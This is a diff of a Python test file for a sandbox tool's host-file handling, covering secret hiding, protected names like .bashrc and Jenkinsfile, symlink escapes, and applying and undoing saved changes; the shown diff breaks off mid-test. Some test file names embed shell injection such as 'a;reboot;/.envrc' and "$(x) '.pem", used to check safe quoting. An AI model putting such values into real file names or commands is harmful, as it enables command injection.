@@ -1,4 +1,4 @@
-"""Promises of the host's files of a run: what is said of what stayed out or may not come back is of use, and true."""
+"""Host files of a run: what is copied in, left out, protected, applied and undone, and the advice about it."""
 
 from __future__ import annotations
 
@@ -46,8 +46,8 @@ from x07_sandbox.runs.host_files import HostFiles
 from x07_sandbox.runs.program import load_program
 from x07_sandbox.runs.request import RunRequest
 from x07_sandbox.runs.result import ChangedName, Changes, draft_result
-from x07_sandbox.runs.run import attempt, copied_in, failure
-from x07_sandbox.runs.saved_changes import do, find, recover_all, undo
+from x07_sandbox.runs.run import attempt, copy_in, failure
+from x07_sandbox.runs.saved_changes import apply_saved, find_saved, recover_all, undo_saved
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
@@ -58,7 +58,7 @@ RUN = "1700000000000-1-1"
 
 
 class Run:
-    """What is at hand when a run's files are copied in, its machine left out. root: a folder that it may change."""
+    """A run without its VM, when its files are copied in. root: a writable folder."""
 
     def __init__(self, root: Path, stack: contextlib.ExitStack) -> None:
         self.root = root
@@ -75,14 +75,14 @@ class Run:
         named: str | None = None,
         **words: Any,  # noqa: ANN401 - any of a request's
     ) -> HostFiles:
-        """They, under the built-in policy with other rules for files. named: the path of the policy in use."""
+        """Its host files under the built-in policy with other file rules. named: the path of the policy in use."""
         policy = words.pop("policy", None) or default_policy()
         rules = {"write_roots": (str(self.root),), "deny_hidden": False, **(fs or {})}
         policy = msgspec.structs.replace(policy, fs=msgspec.structs.replace(policy.fs, **rules))
         request = RunRequest(source=b"pass", toolchain="python", policy=policy, cancel=self.cancel, **words)
         request, program = load_program(request, self.stack)
         request = msgspec.structs.replace(request, policy=named or policy)
-        step = copied_in(request, program, policy, self.draft, self.folder, self.stack)
+        step = copy_in(request, program, policy, self.draft, self.folder, self.stack)
         try:
             while True:
                 self.draft = next(step)
@@ -92,12 +92,12 @@ class Run:
             return found
 
     def denial(self, field: str) -> Denial:
-        """The one about it."""
+        """The only denial of that field."""
         (found,) = [denial for denial in self.draft.denials if denial.field == field]
         return found
 
     def back(self, files: HostFiles, *entries: Entry) -> tuple[Changes, list[Denial], str]:
-        """What becomes of what a guest tells of."""
+        """The result of a guest's reported changes."""
         assert files.incoming is not None
         for entry in (Entry(Kind.ROOT, b"0"), *entries, Entry(Kind.END, b"")):
             if not files.incoming.take(entry.encoded()):
@@ -107,7 +107,7 @@ class Run:
 
 @pytest.fixture
 def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Run]:
-    """A run with a state of its own."""
+    """A run with a state folder of its own."""
     monkeypatch.setenv("X07_VM_STATE_DIR", str(tmp_path / "vm" / "jobs"))
     private_dir(tmp_path / "vm")
     with contextlib.ExitStack() as stack:
@@ -115,7 +115,7 @@ def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Run]:
 
 
 def flag_of(denial: Denial) -> list[str]:
-    """The flag that it names, as a shell makes words of it."""
+    """The words of the flag that a denial names."""
     assert denial.how_to_allow is not None
     assert denial.how_to_allow.flag is not None
     return shlex.split(denial.how_to_allow.flag)
@@ -125,8 +125,8 @@ NAMES = ["key.pem", "a;b.pem", "$(x) '.pem", "-x.pem", "[a].pem", "*.pem", "KEY.
 
 
 @pytest.mark.parametrize("name", NAMES)
-def test_the_flag_of_a_result_lets_a_secret_in(run: Run, name: str) -> None:
-    """--reveal as the result has it is one pattern for a shell, whatever is in the name, and lets just that name in."""
+def test_the_reveal_flag_reveals_one_name(run: Run, name: str) -> None:
+    """The suggested --reveal flag is quoted for a shell and reveals exactly that name."""
     (run.root / name).write_text("a key")
     (run.root / "\uff5e.pem").write_text("another")  # the last of all
     assert set(run.files(changes="discard").copied[0].nodes) == {""}
@@ -140,8 +140,8 @@ def test_the_flag_of_a_result_lets_a_secret_in(run: Run, name: str) -> None:
     assert set(run.files(changes="discard", reveal=(flags[1],)).copied[0].nodes) == {"", name}
 
 
-def test_every_secret_that_is_told_has_its_flag(run: Run) -> None:
-    """Of several secrets the flags let in each that is named, and a name that lies in two folders has one."""
+def test_every_named_secret_has_its_flag(run: Run) -> None:
+    """Every named secret gets a --reveal flag, once for each name."""
     for number in range(7):
         (run.root / f"d{number}").mkdir()
         (run.root / f"d{number}" / f"{number // 2}.pem").write_text("a key")
@@ -150,23 +150,23 @@ def test_every_secret_that_is_told_has_its_flag(run: Run) -> None:
     assert flags == ["--reveal", "0.pem", "--reveal", "1.pem", "--reveal", "2.pem"]  # of the five that are named
 
 
-def test_patterns_of_secrets_know_no_case(run: Run) -> None:
-    """--hide and --reveal mean a name in whatever case of letters it or they are written."""
+def test_secret_patterns_ignore_case(run: Run) -> None:
+    """--hide and --reveal ignore case."""
     for name in ("Notes.TXT", "a.pem", "b.pem"):
         (run.root / name).write_text("x")
     found = run.files(changes="discard", hide=("NOTES*",), reveal=("A.PEM",)).copied[0]
     assert set(found.nodes) == {"", "a.pem"}
 
 
-def test_what_the_user_hides_is_told_with_the_pattern(run: Run) -> None:
-    """A file that --hide kept out is told by that flag, and is not called a secret."""
+def test_a_hidden_file_names_its_pattern(run: Run) -> None:
+    """A file hidden by --hide is reported with that flag, not as a secret."""
     (run.root / "data.csv").write_text("x")
     run.files(changes="discard", hide=("*.csv",))
     assert run.denial("secrets").subject.endswith("data.csv: hidden by --hide '*.csv'")
 
 
-def test_what_nothing_would_let_in_says_so(run: Run) -> None:
-    """A special file, a link that leads out and a file that no number of a policy reaches have no way to be allowed."""
+def test_entries_that_nothing_allows_say_so(run: Run) -> None:
+    """Entries that nothing can allow say so."""
     os.mkfifo(run.root / "pipe")
     (run.root / "out").symlink_to("/etc")
     (run.root / "in").symlink_to("pipe")
@@ -186,10 +186,10 @@ def test_what_nothing_would_let_in_says_so(run: Run) -> None:
         ({"enabled": False}, "", {"out": Path("out")}, "fs.enabled", True),
     ],
 )
-def test_what_is_refused_before_a_run_is_a_denial(
+def test_refusals_before_a_run_are_denials(
     run: Run, rules: dict[str, Any], name: str, words: dict[str, Any], field: str, value: object
 ) -> None:
-    """A root that is one file which may not go in, and --out without files, are told with what would allow them."""
+    """A root that may not go in, and --out without files, are denials with advice."""
     if name:
         (run.root / name).write_text("x" * 20)
     with pytest.raises(SandboxError, match="cannot") as caught:
@@ -200,7 +200,7 @@ def test_what_is_refused_before_a_run_is_a_denial(
 
 
 def test_roots_by_flag_without_files_are_a_denial(run: Run) -> None:
-    """--allow-read-root under a policy with fs.enabled false is told with the field that would let it."""
+    """--allow-read-root with fs.enabled false is a denial that names the field."""
     policy = default_policy()
     policy = msgspec.structs.replace(policy, fs=msgspec.structs.replace(policy.fs, enabled=False))
     given = Overrides(allow_read_root=("/srv",))
@@ -213,8 +213,8 @@ def test_roots_by_flag_without_files_are_a_denial(run: Run) -> None:
 
 
 @pytest.mark.parametrize(("most", "parts", "value"), [(2, 3, 3), (256, 257, None), (300, 257, None)])
-def test_a_depth_is_named_that_a_policy_has(run: Run, most: int, parts: int, value: int | None) -> None:
-    """What lies too deep is told with the depth that lets it in, unless that is more than any run has."""
+def test_a_possible_depth_is_suggested(run: Run, most: int, parts: int, value: int | None) -> None:
+    """An entry that is too deep suggests fs.max_depth, unless no policy allows that depth."""
     place = run.root
     for _ in range(parts):
         place /= "a"
@@ -225,7 +225,7 @@ def test_a_depth_is_named_that_a_policy_has(run: Run, most: int, parts: int, val
 
 
 def test_too_many_entries_name_the_field(run: Run) -> None:
-    """Going in they start nothing, coming back all is discarded, and each is a denial with a larger number."""
+    """Too many entries are refused on the way in, discarded on the way out, and name the field."""
     for number in range(4):
         (run.root / str(number)).write_text("x")
     with pytest.raises(RefusedError, match="more than 3 entries"):
@@ -243,8 +243,8 @@ def test_too_many_entries_name_the_field(run: Run) -> None:
 
 
 @pytest.mark.parametrize("name", [os.fsdecode(b"\xff\x1b/.envrc"), ".g\u200cit", ".bash\x01"])
-def test_a_name_that_cannot_be_written_has_no_flag(run: Run, name: str) -> None:
-    """No line to paste has a pattern in it that would let other names than the one it is for."""
+def test_an_unprintable_name_has_no_flag(run: Run, name: str) -> None:
+    """An unprintable name gets no flag to paste."""
     files = run.files({"allow_symlinks": True}, changes="all-or-nothing")
     folders = [Entry(Kind.FOLDER, os.fsencode(part), mode=0o755) for part in name.split("/")[:-1]]
     _, denials, _ = run.back(files, *folders, Entry(Kind.LINK, os.fsencode(name), target=b"y"))
@@ -252,19 +252,19 @@ def test_a_name_that_cannot_be_written_has_no_flag(run: Run, name: str) -> None:
 
 
 @pytest.mark.parametrize("name", ["a;reboot;/.envrc", ".bash*", "-x/.git"])
-def test_the_flag_of_a_result_lets_a_protected_name(run: Run, name: str) -> None:
-    """--allow-protected as the result has it is one pattern for a shell, and x07 apply takes it for just that name."""
+def test_the_protected_flag_allows_one_name(run: Run, name: str) -> None:
+    """The suggested --allow-protected flag is quoted for a shell and allows exactly that name."""
     files = run.files({"allow_symlinks": True}, changes="all-or-nothing")
     parts = name.split("/")
     folders = [Entry(Kind.FOLDER, os.fsencode(part), mode=0o755) for part in parts[:-1]]
     link = [Entry(Kind.LINK, b".bashrc", target=b"x"), Entry(Kind.LINK, os.fsencode(name), target=b"y")]
     changes, denials, _ = run.back(files, *folders, *link)
-    assert (changes.state, changes.reason) == ("kept", "2 of them may not be done")
+    assert (changes.state, changes.reason) == ("kept", "2 of them not allowed")
     msgspec.json.encode(denials)
     (denial,) = [denial for denial in denials if denial.field == "protected" and denial.subject != ".bashrc"]
     word, pattern = flag_of(denial)
     assert word == "--allow-protected"
-    kept = find(RUN).changes
+    kept = find_saved(RUN).changes
     with pytest.raises(RefusedError) as caught:
         select_changes(kept, [], Grants((pattern,)))
     assert caught.value.why.count("protected") == 1
@@ -282,8 +282,8 @@ def test_the_flag_of_a_result_lets_a_protected_name(run: Run, name: str) -> None
         ("file.json", "file.json"),
     ],
 )
-def test_nothing_that_decides_which_policy_is_in_use_can_be_changed(run: Run, given: str, changed: str) -> None:
-    """The policy in use is protected, and so is every link on the way to it: another link would be another policy."""
+def test_the_policy_in_use_is_protected(run: Run, given: str, changed: str) -> None:
+    """The policy in use, and every link on the way to it, is protected."""
     (run.root / "real").mkdir()
     (run.root / "mine").mkdir()
     (run.root / "link").symlink_to("real")
@@ -310,10 +310,8 @@ def test_nothing_that_decides_which_policy_is_in_use_can_be_changed(run: Run, gi
         ("cache/x", "y"),
     ],
 )
-def test_nothing_that_the_tool_itself_believes_can_be_changed(
-    run: Run, monkeypatch: pytest.MonkeyPatch, root: str, name: str
-) -> None:
-    """Where records, kept changes and the cache lie in a write root they are refused, and nobody can let them go."""
+def test_own_records_are_protected(run: Run, monkeypatch: pytest.MonkeyPatch, root: str, name: str) -> None:
+    """Our own records, saved changes and cache cannot be changed by a program."""
     base = run.root.parent
     monkeypatch.setenv("X07_VM_CACHE_DIR", str(base / "cache"))
     (base / "cache/x").mkdir(parents=True)
@@ -321,11 +319,11 @@ def test_nothing_that_the_tool_itself_believes_can_be_changed(
     changes, denials, _ = run.back(files, Entry(Kind.FOLDER, name.encode(), mode=0o700))
     assert (changes.state, [denial.field for denial in denials]) == ("kept", ["reserved"])
     with pytest.raises(RefusedError, match="x07 keeps"):
-        select_changes(find(RUN).changes, [], Grants(("*",)))
+        select_changes(find_saved(RUN).changes, [], Grants(("*",)))
 
 
-def test_a_policy_that_is_itself_a_root_cannot_be_changed(run: Run) -> None:
-    """A single file that is a write root is protected as any other name is, where it is the policy in use."""
+def test_a_root_that_is_the_policy_is_protected(run: Run) -> None:
+    """A write root that is the policy in use is protected."""
     place = run.root / "p.json"
     place.write_bytes(render_policy(default_policy()))
     files = run.files({"write_roots": (str(place),)}, named=str(place))
@@ -333,13 +331,13 @@ def test_a_policy_that_is_itself_a_root_cannot_be_changed(run: Run) -> None:
     assert (changes.state, [denial.field for denial in denials]) == ("kept", ["protected"])
 
 
-def said(changes: Changes, denials: list[Denial]) -> list[str]:
-    """What the command prints of them."""
+def messages(changes: Changes, denials: list[Denial]) -> list[str]:
+    """The printed lines."""
     return change_lines(msgspec.structs.replace(result(), run=RUN, changes=changes, denials=tuple(denials)))
 
 
 def test_a_root_in_a_repository_is_protected(run: Run) -> None:
-    """What a root has that lies in what git takes for a repository needs the flag; a work tree of its own does not."""
+    """A write root inside a git repository is protected; one inside a work tree is not."""
     bare = run.root / "bare"
     for name in ("objects", "refs", "hooks", "tree", "tree/deep"):
         (bare / name).mkdir(parents=True)
@@ -350,27 +348,30 @@ def test_a_root_in_a_repository_is_protected(run: Run) -> None:
     (bare / "HEAD").touch()
     _, (denial,), _ = run.back(run.files({"write_roots": (str(bare / "hooks"),)}), hook)
     assert (denial.field, denial.subject) == ("protected", "post-update")
-    assert denial.reason == f"git takes {bare} for a repository, and would run what is in it"
+    assert denial.reason == f"git treats {bare} as a repository and would run what is in it"
     assert flag_of(denial) == ["--allow-protected", "post-update"]
-    assert select_changes(find(RUN).changes, [], Grants(("post-update",))).roots[0].changes
+    assert select_changes(find_saved(RUN).changes, [], Grants(("post-update",))).roots[0].changes
     shutil.rmtree(run.folder.path / "changes")
     (bare / "tree/.git").touch()
     assert run.back(run.files({"write_roots": (str(bare / "tree/deep"),)}), hook)[0].state == "applied"
 
 
-def test_a_root_that_is_itself_the_name_can_be_named(run: Run) -> None:
-    """A file or folder that is a root is told by its path, which --skip takes, or its last part; the flag lets it."""
+def test_a_protected_root_is_named_by_path(run: Run) -> None:
+    """A root that is itself protected is named by its path, and flags accept it."""
     ci, jenkins = run.root / ".github", run.root / "Jenkinsfile"
     ci.mkdir()
     jenkins.touch(0o644)
     files = run.files({"write_roots": (str(ci), str(jenkins))}, changes="all-or-nothing")
     task, other = (Entry(Kind.FILE, name, mode=0o600) for name in (b"x.yml", b""))
-    told, denials, _ = run.back(files, task, Entry(Kind.ROOT, b"1"), other)
+    reported, denials, _ = run.back(files, task, Entry(Kind.ROOT, b"1"), other)
     assert [denial.subject.partition(":")[0] for denial in denials] == [f"{ci}/x.yml", str(jenkins)]
     assert flag_of(denials[1]) == ["--allow-protected", "Jenkinsfile"]
-    assert any(f"{jenkins}: jenkinsfile* is protected" in line for line in said(told, denials))
-    changes = find(RUN).changes
-    assert f"# may not be done: {jenkins}: ".encode() in b"".join(patch_chunks(find(RUN)))
+    assert any(
+        f"{jenkins}: protected name: other tools run or obey jenkinsfile*" in line
+        for line in messages(reported, denials)
+    )
+    changes = find_saved(RUN).changes
+    assert f"# not allowed: {jenkins}: ".encode() in b"".join(patch_chunks(find_saved(RUN)))
     with pytest.raises(RefusedError, match=r"x\.yml"):
         select_changes(changes, [], Grants(("Jenkinsfile",)))
     for skip in ("Jenkinsfile", str(jenkins), f"{jenkins}/"):
@@ -388,8 +389,8 @@ def test_a_root_that_is_itself_the_name_can_be_named(run: Run) -> None:
     assert all(root.changes == () for root in select_changes(changes, [str(run.root)]).roots)
 
 
-def test_of_two_roots_that_hold_the_same_name_either_can_be_skipped(run: Run) -> None:
-    """What goes is told with its whole path where several roots have changes, and that path means one of them."""
+def test_a_name_in_two_roots_is_skipped_by_path(run: Run) -> None:
+    """A name that exists in two roots is printed and skipped by its whole path."""
     one, two = (run.root / name for name in ("one", "two"))
     for place in (one, two):
         place.mkdir()
@@ -397,14 +398,14 @@ def test_of_two_roots_that_hold_the_same_name_either_can_be_skipped(run: Run) ->
     files = run.files({"write_roots": (str(one), str(two))}, changes="keep")
     gone = Entry(Kind.DELETED, b"x")
     changes, denials, _ = run.back(files, gone, Entry(Kind.ROOT, b"1"), gone)
-    assert said(changes, denials)[:2] == [f"would be deleted: {place}/x" for place in (one, two)]
-    left = select_changes(find(RUN).changes, [f"{one}/x"])
+    assert messages(changes, denials)[:2] == [f"would be deleted: {place}/x" for place in (one, two)]
+    left = select_changes(find_saved(RUN).changes, [f"{one}/x"])
     assert [root.root for root in left.roots if root.changes] == [str(two)]
 
 
 @pytest.mark.parametrize("moved", [False, True])
-def test_what_is_skipped_stays_with_its_folders(run: Run, capsys: pytest.CaptureFixture[str], *, moved: bool) -> None:
-    """Of a folder that was removed or renamed with what may not be, the rest is done, and that it stays is said."""
+def test_a_skipped_entry_keeps_its_folders(run: Run, capsys: pytest.CaptureFixture[str], *, moved: bool) -> None:
+    """A skipped entry keeps its folders, and the rest is applied."""
     inner = run.root / "proj/in"
     (inner / ".vscode").mkdir(parents=True)
     for name in (".vscode/ci.yml", "AGENTS.md", "a.txt"):
@@ -420,10 +421,10 @@ def test_what_is_skipped_stays_with_its_folders(run: Run, capsys: pytest.Capture
         run.files(changes="all-or-nothing"), *gone, Entry(Kind.DELETED, b"proj"), *(folders + come if moved else [])
     )
     assert changes.state == "kept"
-    kept_set = find(RUN)
+    kept_set = find_saved(RUN)
     skip = [denial.subject.partition(":")[0] for denial in denials]
     left = select_changes(kept_set.changes, skip)
-    do(kept_set, left, lambda _path: None)
+    apply_saved(kept_set, left, lambda _path: None)
     proj = {str(path.relative_to(run.root)) for path in run.root.glob("proj/**/*")}
     assert proj == {"proj/in", "proj/in/.vscode", "proj/in/.vscode/ci.yml", "proj/in/AGENTS.md"}
     assert sorted(str(path.relative_to(run.root)) for path in run.root.glob("new/**/*")) == (
@@ -433,18 +434,18 @@ def test_what_is_skipped_stays_with_its_folders(run: Run, capsys: pytest.Capture
     assert stays == [f"x07: kept because it contains skipped files: {name}" for name in ("proj", "proj/in")]
 
 
-def test_what_was_not_copied_in_can_be_skipped(run: Run) -> None:
-    """Of a folder that was removed and holds a key, the rest goes, once the key is skipped; another key is told."""
+def test_a_left_out_entry_can_be_skipped(run: Run) -> None:
+    """An entry that was not copied in can be skipped, so that the rest is applied."""
     for name in ("d/in/a.pem", "d/in/b.txt", "d/c.txt", "e/z.pem", "e/y"):
         (run.root / name).parent.mkdir(parents=True, exist_ok=True)
         (run.root / name).write_text(name)
     gone = [b"d/in/b.txt", b"d/c.txt", b"d/in", b"d", b"e/y", b"e"]
     run.back(run.files(changes="all-or-nothing"), *(Entry(Kind.DELETED, name) for name in gone))
-    kept_set = find(RUN)
-    with pytest.raises(RefusedError, match=r"e: e/z\.pem is in it"):
+    kept_set = find_saved(RUN)
+    with pytest.raises(RefusedError, match=r"e: contains e/z\.pem"):
         select_changes(kept_set.changes, ["d/in/a.pem"])
     left = select_changes(kept_set.changes, ["d/in/a.pem", f"{run.root}/e/z.pem"])
-    do(kept_set, left, lambda _path: None)
+    apply_saved(kept_set, left, lambda _path: None)
     assert sorted(str(path.relative_to(run.root)) for path in run.root.glob("**/*.*")) == ["d/in/a.pem", "e/z.pem"]
     with pytest.raises(UsageError):
         select_changes(kept_set.changes, ["e", "d", "f/x"])
@@ -461,31 +462,31 @@ LEFT: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
 
 @pytest.mark.parametrize(("left", "fs", "more"), LEFT)
 @pytest.mark.parametrize("taken", [True, False])
-def test_what_was_left_out_and_is_in_the_way_says_so(
+def test_a_left_out_entry_is_never_replaced(
     run: Run, left: str, fs: dict[str, Any], more: dict[str, Any], *, taken: bool
 ) -> None:
-    """What did not go in is neither replaced nor removed: it is named, with what lets it in, and no host is blamed."""
+    """An entry that was left out is never replaced or removed, and is named with advice."""
     place = run.root / "f/d" / left
     place.parent.mkdir(parents=True)
     place.symlink_to("other") if left == "link" else place.write_text("large")
     gone = [Entry(Kind.DELETED, name) for name in (b"f/d", b"f")]
     files = run.files(fs, changes="all-or-nothing")
     changes, denials, _ = run.back(files, *gone if taken else [Entry(Kind.FOLDER, b"f/d/" + left.encode(), mode=0o755)])
-    alone = "1 more may not be brought back" if left == "deep" else "1 of them may not be done"  # nothing too deep is
-    assert (changes.state, changes.reason) == ("kept", "2 of them may not be done" if taken else alone)
-    told = "\n".join(said(changes, denials))
+    alone = "1 more cannot be copied back" if left == "deep" else "1 of them not allowed"  # nothing too deep is
+    assert (changes.state, changes.reason) == ("kept", "2 of them not allowed" if taken else alone)
+    reported = "\n".join(messages(changes, denials))
     if taken:
-        assert f"f: f/d/{left} is in it, which was not copied in" in told
+        assert f"f: contains f/d/{left}, which was not copied in" in reported
     how = denials[0].how_to_allow
     assert how is not None
     words: dict[str, Any] = {} if more else {"reveal": (flag_of(denials[0])[1],)}
-    assert ("use --reveal key.pem" if words else f"set {how.json_path}".replace("$.", "")) in told
+    assert ("use --reveal key.pem" if words else f"set {how.json_path}".replace("$.", "")) in reported
     assert how.value == next(iter(more.values()), None)
     assert f"f/d/{left}" in run.files({**fs, **more}, changes="discard", **words).copied[0].nodes
 
 
-def test_no_link_leaves_by_way_of_one_that_was_left_out(run: Run) -> None:
-    """A link to a link of the host's that leads out, and was not copied in for that, does not come back either."""
+def test_no_link_escapes_through_a_left_out_one(run: Run) -> None:
+    """A new link may not leave its root through a link that was left out."""
     (run.root / "lk").mkdir()
     (run.root / "lk/out").symlink_to("/etc/passwd")
     files = run.files({"allow_symlinks": True})
@@ -496,18 +497,18 @@ def test_no_link_leaves_by_way_of_one_that_was_left_out(run: Run) -> None:
 
 
 @pytest.mark.parametrize("more", [(), (Entry(Kind.FOLDER, b"new", mode=0o755),)])
-def test_that_a_roots_own_mode_stays_is_said(run: Run, more: tuple[Entry, ...]) -> None:
-    """A program that changes the mode of a root gets a warning with it, whatever else it changed."""
+def test_a_root_keeps_its_own_mode(run: Run, more: tuple[Entry, ...]) -> None:
+    """The mode of a root folder on the host stays, whatever the program makes of it."""
     mode = run.root.stat().st_mode
     changes, denials, warning = run.back(run.files(), Entry(Kind.FOLDER, b"", mode=0o700), *more)
     assert (changes.state, denials) == ("applied" if more else "none", [])
-    assert f"{run.root} was given mode 0700: " in warning
+    assert warning == ""
     assert run.root.stat().st_mode == mode
     assert (run.root / "new").exists() == bool(more)
 
 
-def test_what_may_not_come_back_says_whether_anything_would_let_it(run: Run) -> None:
-    """A pipe and a name of ours have no way, and a link has a value of the policy unless it leads out."""
+def test_refused_changes_say_what_would_allow_them(run: Run) -> None:
+    """Refused changes say whether anything would allow them."""
     files = run.files({"allow_symlinks": False})
     pipe = Entry(Kind.UNSUPPORTED, b"p", mode=0o010644)
     ours = Entry(Kind.FOLDER, b".x07-apply-1", mode=0o755)
@@ -523,7 +524,7 @@ def test_what_may_not_come_back_says_whether_anything_would_let_it(run: Run) -> 
 
 
 def packed(files: HostFiles) -> list[set[str]]:
-    """Names in each tree that goes in; each comes once, and none before its folder."""
+    """The names in each tree, each once and after its folder."""
     found = []
     for file in files.files:
         reader = Reader()
@@ -547,10 +548,10 @@ LOST: list[tuple[str, dict[str, Any], set[str]]] = [
 
 @pytest.mark.parametrize("outer", ["read_roots", "write_roots"])
 @pytest.mark.parametrize(("inner", "fs", "ways"), LOST)
-def test_a_root_in_what_was_left_out_of_another_goes_in(
+def test_a_root_below_a_left_out_entry_is_copied(
     run: Run, inner: str, fs: dict[str, Any], ways: set[str], outer: str
 ) -> None:
-    """A root that another does not take along travels by itself; there it has a place, and nothing else on the way."""
+    """A root below an entry that another root leaves out is copied in by itself."""
     place = run.root / inner
     place.parent.mkdir(parents=True)
     (place.parent / "kept.pem").write_text("a key")
@@ -564,7 +565,7 @@ def test_a_root_in_what_was_left_out_of_another_goes_in(
     roots["write_roots"] = (*roots["write_roots"], str(place))
     files = run.files(roots)
     if inner == "sub/missing" and outer == "write_roots":
-        assert packed(files) == [ways]  # what is missing where it may be made is made there
+        assert packed(files) == [ways]  # a missing root is made where that is allowed
         return
     own = {"in"} if inner.endswith("/") else {"one.pem"} if "one" in inner else set()
     assert packed(files) == [ways, own]
@@ -574,20 +575,20 @@ def test_a_root_in_what_was_left_out_of_another_goes_in(
     ]
 
 
-def test_what_comes_back_of_a_root_in_another_is_of_that_alone(run: Run) -> None:
-    """A root that lies in what was left out is changed as any, and beside it, or to it by the other, nothing is."""
+def test_changes_of_a_nested_root_are_its_own(run: Run) -> None:
+    """Changes of a nested root are limited to it."""
     inner = run.root / ".aws/new"
     inner.mkdir(parents=True)
     (inner.parent / "credentials").write_text("secret")
     both = {"write_roots": (str(run.root), str(inner))}
 
-    def told(*entries: Entry) -> tuple[Changes, list[Denial], str]:
+    def reported(*entries: Entry) -> tuple[Changes, list[Denial], str]:
         files = run.files(both, changes="all-or-nothing")
         return run.back(files, *entries)
 
     made = Entry(Kind.FOLDER, b"made", mode=0o755)
     for name in (b".aws/other", b".aws/new/x"):
-        changes, (denial,), _ = told(Entry(Kind.FOLDER, name, mode=0o755), Entry(Kind.ROOT, b"1"), made)
+        changes, (denial,), _ = reported(Entry(Kind.FOLDER, name, mode=0o755), Entry(Kind.ROOT, b"1"), made)
         assert (changes.state, denial.field) == ("kept", "secrets")
         assert flag_of(denial) == ["--reveal", ".aws"]
         (run.folder.path / "changes/changes.json").unlink()
@@ -596,27 +597,17 @@ def test_what_comes_back_of_a_root_in_another_is_of_that_alone(run: Run) -> None
     (inner / "k.pem").touch()
     both = {"write_roots": (str(run.root), f"{inner}/k.pem")}
     gone = [Entry(Kind.DELETED, name) for name in (b".aws/new/k.pem", b".aws/new", b".aws")]
-    assert told(*gone)[0].state == "kept"  # with all around it, and the machine has told the truth
+    assert reported(*gone)[0].state == "kept"  # with all around it, and the machine has told the truth
     shutil.rmtree(run.folder.path / "changes")
     (inner / "k.pem").unlink()
     both = {"write_roots": (str(run.root), str(inner))}
-    changes, denials, _ = told(made, Entry(Kind.ROOT, b"1"), made)
+    changes, denials, _ = reported(made, Entry(Kind.ROOT, b"1"), made)
     assert (changes.state, denials) == ("applied", [])
     assert sorted(str(path.relative_to(run.root)) for path in run.root.rglob("made")) == [".aws/new/made", "made"]
 
 
-def test_out_may_be_hidden_in_a_root_and_is_not_seen_there(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
-    """A folder of --out that lies in a root, and is hidden there, has a place of its own, and nothing is said of it."""
-    monkeypatch.chdir(run.root)
-    (run.root / ".new").mkdir()
-    files = run.files({"write_roots": (), "read_roots": (str(run.root),), "deny_hidden": True}, out=Path(".new"))
-    assert packed(files) == [set(), set()]
-    assert [mount["at"] for mount in files.mounts(0)] == [OUT, str(run.root)]
-    assert run.draft.denials == []
-
-
-def test_out_is_a_folder_or_is_not_there(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
-    """A file that --out names is refused before a machine is started for it, with what would do."""
+def test_out_may_not_be_a_file(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+    """--out naming a file is refused before a VM starts."""
     monkeypatch.chdir(run.root)
     (run.root / "file").touch()
     with pytest.raises(UsageError, match="file is a file"):
@@ -624,45 +615,45 @@ def test_out_is_a_folder_or_is_not_there(run: Run, monkeypatch: pytest.MonkeyPat
     assert run.files(out=Path("new")).areas[0].at == OUT
 
 
-def kept(changes: ChangeSet, folder: Path) -> None:
-    """What a run leaves of these."""
+def save_set(changes: ChangeSet, folder: Path) -> None:
+    """Save a change set as a run does."""
     private_dir(folder / "changes")
     (folder / "changes" / "changes.json").write_bytes(encode(changes))
     (folder / "changes" / "data").write_bytes(b"")
 
 
-def test_a_set_that_makes_no_sense_is_an_error_that_is_told(run: Run) -> None:
-    """Whatever stands in the list of changes, applying ends with what is wrong, never with a fault of the command."""
+def test_a_damaged_set_is_an_error(run: Run) -> None:
+    """A damaged change set is an error when it is applied."""
     made = Change(name=".x07-apply-1", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
-    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
+    save_set(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
     with pytest.raises(HostError, match="damaged"):
-        do(find(RUN), find(RUN).changes, lambda _path: None)
+        apply_saved(find_saved(RUN), find_saved(RUN).changes, lambda _path: None)
 
 
-def test_undoing_can_be_killed_while_it_ends(run: Run) -> None:
-    """Killed before each name that it removes or changes, undoing is ended by the next command, and is done again."""
+def test_a_killed_undo_is_completed(run: Run) -> None:
+    """A killed undo is completed by the next command."""
     (run.root / "a").write_bytes(b"x")
     node = Node(kind="file", mode=0o644, size=1, sha256=hashlib.sha256(b"x").hexdigest())
     changes = tuple(Change(name=name, before=node, after=None) for name in "ab")
-    kept(
+    save_set(
         ChangeSet(run=RUN, roots=(RootChanges(root=str(run.root), guest="/g", missing=False, changes=changes),)),
         run.folder.path,
     )
-    parts = [select_changes(find(RUN).changes, [skipped]) for skipped in "ab"]
+    parts = [select_changes(find_saved(RUN).changes, [skipped]) for skipped in "ab"]
     killed = 0
     for number in itertools.count():
         (run.root / "b").write_bytes(b"x")
-        do(find(RUN), parts[number % 2], lambda _path: None)
+        apply_saved(find_saved(RUN), parts[number % 2], lambda _path: None)
         pid = os.fork()
         if pid == 0:
             die_at(number)
-            undo(find(RUN), lambda _path: None)
+            undo_saved(find_saved(RUN), lambda _path: None)
             os._exit(0)
         ended = os.waitpid(pid, 0)[1] == 0
         recover_all(pytest.fail)
         with contextlib.suppress(UsageError):  # it was done, to the end
-            undo(find(RUN), lambda _path: None)
+            undo_saved(find_saved(RUN), lambda _path: None)
         assert sorted(path.name for path in run.root.iterdir()) == ["a", "b"]
         if ended:
             break
@@ -670,31 +661,31 @@ def test_undoing_can_be_killed_while_it_ends(run: Run) -> None:
     assert killed > 10
 
 
-def test_what_keeps_from_undoing_is_told_as_that(run: Run) -> None:
-    """An error of the system while changes are taken back says that they cannot be undone, not that they apply."""
+def test_an_undo_on_a_full_disk_can_be_repeated(run: Run) -> None:
+    """An undo that fails for lack of space reports it and succeeds once there is space."""
     (run.root / "a").write_bytes(b"x" * 1000)
     node = Node(kind="file", mode=0o644, size=1000, sha256=hashlib.sha256(b"x" * 1000).hexdigest())
     gone = Change(name="a", before=node, after=None)
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(gone,))
-    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
